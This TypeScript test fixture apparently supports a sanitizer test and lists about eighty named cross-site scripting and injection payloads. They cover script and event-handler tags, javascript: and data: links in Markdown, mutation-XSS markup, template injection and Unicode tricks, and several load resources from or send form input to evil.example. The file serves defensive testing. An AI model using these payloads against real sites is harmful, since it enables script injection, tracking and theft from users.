/** A text that a customer, an agent or a back-office system may hand in, made to run as code in somebody's browser. */
export interface HostileText {
  readonly name: string
  readonly text: string
}

/** Calls the trap of browser.ts under this name. Written without quotes of its own, so that it fits into any. */
const call = (name: string): string => `window.__pwn&&__pwn(/${name}/.source)`

const hostile = (name: string, text: (run: string) => string): HostileText => ({
  name,
  text: text(call(name)),
})

/** S14: what texts are made of that try to become code. None may run, show as markup or load anything, wherever it stands. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  // Elements that run.
  hostile('script', (run) => `<script>${run}</script>`),
  hostile('script-upper', (run) => `<SCRIPT/x>${run}</SCRIPT>`),
  hostile('script-foreign', () => '<script src="https://evil.example/x.js"></script>'),
  hostile('script-split', (run) => `<scr<script>ipt>${run}</scr</script>ipt>`),
  hostile('img-onerror', (run) => `<img src=x onerror="${run}">`),
  hostile('img-no-quotes', (run) => `<img/src/onerror=${run}>`),
  hostile('svg-onload', (run) => `<svg onload="${run}"></svg>`),
  hostile('svg-script', (run) => `<svg><script>${run}</script></svg>`),
  hostile('svg-animate', (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s></animate></svg>`),
  hostile(
    'svg-use',
    () =>
      '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+#x"/></svg>',
  ),
  hostile('details-ontoggle', (run) => `<details open ontoggle="${run}">x</details>`),
  hostile('input-autofocus', (run) => `<input autofocus onfocus="${run}">`),
  hostile('video-source', (run) => `<video><source onerror="${run}"></video>`),
  hostile('body-onload', (run) => `<body onload="${run}">`),
  hostile('marquee', (run) => `<marquee onstart="${run}">x</marquee>`),
  hostile(
    'style-animation',
    (run) => `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${run}">x</b>`,
  ),
  hostile('iframe-srcdoc', (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`),
  hostile('iframe-javascript', (run) => `<iframe src="javascript:parent.${run}"></iframe>`),
  hostile('object-data', (run) => `<object data="data:text/html,<script>top.${run}</script>"></object>`),
  hostile('embed', (run) => `<embed src="javascript:${run}">`),
  hostile('form-action', (run) => `<form action="javascript:${run}"><button autofocus>Send</button></form>`),
  hostile('template', (run) => `<template shadowrootmode=open><img src=x onerror="${run}"></template>`),

  // Elements that change where the page points or what it is.
  hostile('base', () => '<base href="https://evil.example/">'),
  hostile('meta-refresh', (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`),
  hostile('meta-refresh-away', () => '<meta http-equiv=refresh content="0;url=https://evil.example/">'),
  hostile('link-stylesheet', () => '<link rel=stylesheet href="https://evil.example/x.css">'),
  hostile('css-url', () => '<b style="background:url(https://evil.example/x.png)">x</b>'),
  hostile(
    'css-import',
    () => '<style>@import "https://evil.example/x.css"; *{display:none!important}</style>',
  ),
  hostile(
    'css-cover',
    () => '<a href="https://evil.example/" style="position:fixed;inset:0;z-index:9999">x</a>',
  ),
  hostile('img-foreign', () => '<img src="https://evil.example/seen.gif">'),
  hostile('form-foreign', () => '<form action="https://evil.example/"><input name=code></form>'),

  // Out of an attribute, a script or a comment.
  hostile('double-quote', (run) => `"><img src=x onerror="${run}">`),
  hostile('single-quote', (run) => `'><svg onload='${run}'>`),
  hostile('attribute', (run) => `x" onmouseover="${run}" autofocus onfocus="${run}" y="`),
  hostile('close-title', (run) => `</title></textarea></style></script><script>${run}</script>`),
  hostile('comment', (run) => `<!--><img src=x onerror=${run}>-->`),
  hostile('cdata', (run) => `<![CDATA[><script>${run}</script>]]>`),
  hostile('json-in-script', (run) => `{"a":"</script><script>${run}</script>"}`),
  hostile('line-separators', (run) => `\u2028";${run};//\u2029`),

  // Through Markdown.
  hostile('md-javascript', (run) => `[the guide](javascript:${run})`),
  hostile('md-javascript-case', (run) => `[the guide](JaVaScRiPt:${run})`),
  hostile('md-javascript-tab', (run) => `[the guide](java\tscript:${run})`),
  hostile('md-javascript-entity', (run) => `[the guide](&#106;avascript&colon;${run})`),
  hostile('md-javascript-percent', (run) => `[the guide](javascript%3A${run})`),
  hostile('md-vbscript', (run) => `[the guide](vbscript:${run})`),
  hostile('md-data', (run) => `[the guide](data:text/html;charset=utf-8,<script>opener.${run}</script>)`),
  hostile('md-image', (run) => `![x](x"onerror="${run})`),
  hostile('md-image-data', (run) => `![x](data:image/svg+xml,<svg onload=${run}>)`),
  hostile('md-image-foreign', () => '![x](https://evil.example/seen.png)'),
  hostile('md-autolink', (run) => `<javascript:${run}>`),
  hostile('md-reference', (run) => `[the guide][1]\n\n[1]: javascript:${run}`),
  hostile('md-title', (run) => `[the guide](/ "x' onmouseover='${run}")`),
  hostile('md-html', (run) => `**bold** <img src=x onerror="${run}"> _text_`),
  hostile('md-html-link', (run) => `<a href="javascript:${run}">the guide</a>`),
  hostile('md-code', (run) => `\`\`\`"><script>${run}</script>\nx\n\`\`\``),
  hostile('md-heading-id', (run) => `# x {#"onclick=${run}}`),

  // Trees that change when they are written and read again.
  hostile('mxss-noscript', (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`),
  hostile(
    'mxss-math',
    (run) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  ),
  hostile('mxss-svg-style', (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`),
  hostile(
    'mxss-form',
    (run) =>
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  ),
  hostile('mxss-entities', (run) => `&lt;img src=x onerror=${run}&gt;`),
  hostile(
    'dom-clobbering',
    () => '<form id=__pwn><input name=body></form><a id=location href=https://evil.example/>',
  ),

  // For a template, a framework or a catalogue of texts.
  hostile('jsx', (run) => `{${run}}`),
  hostile('mustache', (run) => `{{constructor.constructor(\`${run}\`)()}}`),
  hostile('template-literal', (run) => `\${${run}}`),
  hostile('erb', (run) => `<%= ${run} %>`),
  hostile('i18n-nesting', () => '$t(title) {{count}} $t(__proto__)'),
  hostile(
    'react-element',
    (run) =>
      `{"type":"img","props":{"src":"x","onError":"${run}","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}}`,
  ),
  hostile('handler-expression', (run) => `');${run};('`),

  // Names that objects have already.
  hostile('proto', () => '__proto__'),
  hostile('constructor', () => 'constructor'),
  hostile('has-own', () => 'hasOwnProperty'),
  hostile('to-string', () => 'toString'),

  // Letters that are not what they seem.
  hostile('full-width', (run) => `＜script＞${run}＜/script＞`),
  hostile('overlong', (run) => `%c0%bcscript%c0%be${run}%c0%bc/script%c0%be`),
  hostile('right-to-left', (run) => `\u202e<img src=x onerror="${run}">\u202c`),
  hostile('zero-width', (run) => `<\u200bimg src=x onerror="${run}"> java\u200bscript:${run}`),
  hostile('null', (run) => `<scr\u0000ipt>${run}</scr\u0000ipt>`),
  hostile('combining', () => `Z${'\u0335\u0321\u0348'.repeat(40)}algo`),
  hostile('long-word', () => 'W'.repeat(600)),
  hostile('look-alike', () => '[halden.example](https://hаlden.example/)'),
]
